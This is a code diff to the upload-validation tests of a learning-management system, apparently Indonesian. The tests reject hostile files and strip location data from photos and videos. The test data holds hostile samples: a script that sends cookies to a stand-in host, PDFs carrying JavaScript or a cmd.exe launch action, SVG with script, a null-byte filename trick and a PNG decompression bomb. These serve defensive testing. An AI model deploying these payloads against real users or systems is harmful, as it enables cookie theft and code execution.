@@ -25,7 +25,7 @@ from lms.contract.errors import ImbasError, Invalid, TooLarge
 from lms.contract.files import FILE_KINDS
 from lms.contract.modules import Unit
 from lms.evidence import api as evidence
-from lms.evidence.checking_files import CheckedFile, check_file
+from lms.evidence.checking_files import CheckedFile, check_own_file
 from lms.evidence.models import DeliverableDue, EvidenceFile, Submission, SubmissionVersion
 from lms.people import tables
 from lms.people.models import Person
@@ -36,6 +36,7 @@ from lms.platform.transaction import write
 from lms.programmes.faults import DefinitionFault
 from lms.programmes.source import load_yaml
 from lms.simulation import papers
+from lms.testing.hostile import box, docx, object_streams, png_bomb, raw_pdf
 from lms.testing.people import sign_in
 from lms.testing.province import Province
 
@@ -46,40 +47,12 @@ MEGABYTE = 1024 * 1024
 
 
 def check(name: str, body: bytes, limit: int = 20 * MEGABYTE) -> CheckedFile:
-    return check_file(name, io.BytesIO(body), kinds=ALL, max_bytes=limit)
+    return check_own_file(name, body, kinds=ALL, max_bytes=limit)
 
 
 def office(**parts: bytes) -> bytes:
     """A Word document with more parts: ``word__vbaProject_bin`` is ``word/vbaProject.bin``."""
-    whole = io.BytesIO(papers.letter("Judul", "Baris"))
-    with zipfile.ZipFile(whole, "a", zipfile.ZIP_DEFLATED) as archive:
-        for name, body in parts.items():
-            archive.writestr(name.replace("__", "/").replace("_", "."), body)
-    return whole.getvalue()
-
-
-def pdf(*objects: bytes) -> bytes:
-    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer<<>>\n%%EOF\n"
-
-
-def hidden(body: bytes) -> bytes:
-    packed = zlib.compress(body)
-    return b"7 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode/Length %d>>stream\n%b\nendstream endobj" % (
-        len(packed), packed,
-    )  # fmt: skip
-
-
-def png_bomb(width: int, height: int) -> bytes:
-    """A PNG that says it is as large as a village and is a few kilobytes."""
-
-    def chunk(name: bytes, body: bytes) -> bytes:
-        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
-
-    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
-    return (
-        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * MEGABYTE))
-        + chunk(b"IEND", b"")
-    )  # fmt: skip
+    return docx(more={name.replace("__", "/").replace("_", "."): body for name, body in parts.items()})
 
 
 def long_directory() -> bytes:
@@ -104,16 +77,16 @@ REMOTE = (
 SCRIPT = b"<script>fetch('//jahat.example/'+document.cookie)</script>"
 REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
     "HTML called a PDF": ("surat.pdf", lambda: b"<html>" + SCRIPT),
-    "HTML with a PDF behind it": ("surat.pdf", lambda: SCRIPT + pdf()),
-    "PDF with JavaScript": ("surat.pdf", lambda: pdf(b"1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")),
-    "PDF with an escaped name": ("surat.pdf", lambda: pdf(b"1 0 obj<</S/J#61vaScript/J#53(x)>>endobj")),
-    "PDF with JavaScript in an object stream": ("surat.pdf", lambda: pdf(hidden(b"<</S/JavaScript/JS(x)>>"))),
+    "HTML with a PDF behind it": ("surat.pdf", lambda: SCRIPT * 30 + raw_pdf()),
+    "PDF with JavaScript": ("surat.pdf", lambda: raw_pdf(b"<</S/JavaScript/JS(app.alert(1))>>")),
+    "PDF with an escaped name": ("surat.pdf", lambda: raw_pdf(b"<</S/J#61vaScript/J#53(x)>>")),
+    "PDF with JavaScript in an object stream": ("surat.pdf", lambda: object_streams(b"<</S/JavaScript/JS(x)>>")),
     "PDF that hides it behind a comment": (
-        "surat.pdf", lambda: pdf(b"%stream\n1 0 obj<</S/JavaScript/JS(x)>>endobj\n%endstream"),
+        "surat.pdf", lambda: raw_pdf(b"%stream\n<</S/JavaScript/JS(x)>>\n%endstream"),
     ),
-    "PDF with a launch action": ("surat.pdf", lambda: pdf(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj")),
-    "PDF with a file inside": ("surat.pdf", lambda: pdf(b"1 0 obj<</Type/EmbeddedFile>>endobj")),
-    "half a PDF": ("surat.pdf", lambda: pdf(b"1 0 obj<<>>endobj")[:-12]),
+    "PDF with a launch action": ("surat.pdf", lambda: raw_pdf(b"<</S/Launch/F(cmd.exe)>>")),
+    "PDF with a file inside": ("surat.pdf", lambda: raw_pdf(b"<</Type/Filespec/EF<</F 2 0 R>>>>")),
+    "half a PDF": ("surat.pdf", lambda: raw_pdf()[:-12]),
     "SVG": ("gambar.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
     "SVG called a photo": ("gambar.jpg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
     "HTML": ("halaman.html", lambda: SCRIPT),
@@ -135,8 +108,8 @@ REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
     "plain zip called a document": ("rpp.docx", lambda: _stray("a.txt", with_document=False)),
     "nothing": ("kosong.pdf", lambda: b""),
     "too large": ("besar.pdf", lambda: b"%PDF-" + bytes(21 * MEGABYTE)),
-    "no ending": ("berkas", lambda: pdf()),
-    "two endings": ("surat.pdf.html", lambda: pdf()),
+    "no ending": ("berkas", lambda: raw_pdf()),
+    "two endings": ("surat.pdf.html", lambda: raw_pdf()),
     "ending after a null": ("surat.exe\x00.pdf", lambda: b"MZ" + bytes(100)),
 }  # fmt: skip
 
@@ -196,10 +169,10 @@ def test_good_files_are_kept() -> None:
         ("rapor.xlsx", papers.sheet("Judul", "Baris")),
         ("rpp.docx", papers.letter("Judul", "Baris")),
     ):
-        assert check(name, body).body == body
-    # four hundred kilobytes of noise carry /JS here and there, as a compressed picture does
+        assert check(name, body).body.read() == body
+    # noise carries /JS here and there, as a compressed picture does
     noise = b"".join(b"/JS " + zlib.compress(bytes([number])) for number in range(250))
-    assert check("pindai.pdf", pdf(b"4 0 obj<<>>stream\n" + noise + b"\nendstream endobj"))
+    assert check("pindai.pdf", raw_pdf(b"<</Length %d>>stream\n%b\nendstream" % (len(noise), noise)))
 
 
 @pytest.mark.parametrize(
@@ -235,7 +208,7 @@ def test_a_photo_keeps_its_time_and_loses_its_place() -> None:
     sent = _phone_photo()
     assert b"GPS" in sent or Image.open(io.BytesIO(sent)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
     kept = check("foto.jpg", sent)
-    for body in (kept.body, kept.preview):
+    for body in (kept.body.read(), kept.preview):
         with Image.open(io.BytesIO(body)) as picture:
             assert not dict(picture.getexif())
             assert picture.height > picture.width  # upright
@@ -243,13 +216,12 @@ def test_a_photo_keeps_its_time_and_loses_its_place() -> None:
 
 
 def test_a_video_loses_its_place_and_nothing_else() -> None:
-    def box(name: bytes, body: bytes) -> bytes:
-        return struct.pack(">I4s", len(body) + 8, name) + body
-
     place = b"-02.8871+104.6512+012.000/"
     tag = box(b"\xa9xyz", struct.pack(">HH", len(place), 0x15C7) + place)
     video = box(b"ftyp", b"isom") + box(b"mdat", place) + box(b"moov", box(b"udta", tag))
-    kept = check("kelas.mp4", video).body
+    body = check("kelas.mp4", video).body
+    body.seek(0)
+    kept = body.read()
     assert len(kept) == len(video)
     assert kept.count(place) == 1  # pictures are not touched, whatever they look like
     assert kept.index(place) < kept.index(b"moov")
@@ -469,9 +441,9 @@ def test_the_grader_sees_when_a_photo_was_taken(site: Flask, province: Province)
     with write() as session:
         session.get_one(Submission, submission_id).status = evidence.SubmissionStatus.DRAFT
         session.get_one(SubmissionVersion, file.version_id).submitted_at = None
-        checked = check("foto.jpg", _phone_photo())
+        stored = evidence.store_file(check("foto.jpg", _phone_photo()))
         moment = site.extensions["clock"]()
-        evidence.add_file(session, submission_id=submission_id, checked=checked, actor_id=None, now=moment)
+        evidence.add_file(session, submission_id=submission_id, stored=stored, actor_id=None, now=moment)
         session.get_one(Submission, submission_id).status = evidence.SubmissionStatus.SUBMITTED
         session.get_one(SubmissionVersion, file.version_id).submitted_at = moment
     page = (
